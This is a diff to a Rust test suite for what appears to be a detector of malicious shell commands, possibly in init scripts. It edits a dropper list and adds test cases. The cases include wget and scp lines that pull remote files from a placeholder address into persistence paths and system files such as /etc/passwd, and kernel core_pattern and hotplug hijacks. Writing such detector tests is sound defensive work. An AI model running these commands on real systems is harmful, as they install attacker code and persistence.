@@ -85,7 +85,6 @@ const DROPPERS: &[&str] = &[
     "trap /tmp/x EXIT",
     "script -c /tmp/x /dev/null",
     "echo /tmp/x >/proc/sys/kernel/hotplug",
-    "sysctl -w kernel.core_pattern=/tmp/evil",
     "sysctl -w 'kernel.core_pattern=|/tmp/evil %p'",
 ];
 
@@ -438,4 +437,31 @@ fn what_is_beyond_a_bound_is_doubtful() {
     }
     // NUL is nothing to a shell.
     assert_eq!(certain("/x", "wget -qO- http://192.0.2.9/b |\0 s\0h"), [true]);
+}
+
+#[test]
+fn what_is_fetched_to_where_it_starts_counts_and_nothing_beside() {
+    for (line, counts) in [
+        ("wget -O /etc/hotplug.d/usb/10-x http://192.0.2.9/x", true),
+        ("wget -O /root/.profile http://192.0.2.9/x", true),
+        ("wget -O /usr/lib/libc.so http://192.0.2.9/x", true),
+        ("wget -O /lib/libx.so.1 http://192.0.2.9/x", true),
+        ("wget -O /etc/profile.d/x http://192.0.2.9/x", true),
+        ("scp u@192.0.2.9:/x/S99x /etc/init.d", true),
+        ("scp u@192.0.2.9:x /usr/bin/", true),
+        ("scp u@192.0.2.9:x /mnt/pictures", false),
+        ("wget -O /usr/lib/x.json http://192.0.2.9/x", false),
+        ("wget -O /etc/passwd- http://192.0.2.9/x", false),
+        ("wget -O /etc/passwd.d http://192.0.2.9/x", false),
+        ("wget -O /etc/inittab.old http://192.0.2.9/x", false),
+        ("wget -O /etc/passwd http://192.0.2.9/x", true),
+        ("echo /tmp/core.%p >/proc/sys/kernel/core_pattern", false),
+        ("sysctl -w kernel.core_pattern=/tmp/core", false),
+        ("echo '|/tmp/x %p' >/proc/sys/kernel/core_pattern", true),
+        ("sysctl -w kernel.core_pattern='|/tmp/x %p'", true),
+        ("echo /tmp/x >/proc/sys/kernel/hotplug", true),
+    ] {
+        let expected: &[bool] = if counts { &[true] } else { &[] };
+        assert_eq!(certain("/etc/init.d/S50x", line), expected, "{line}");
+    }
 }
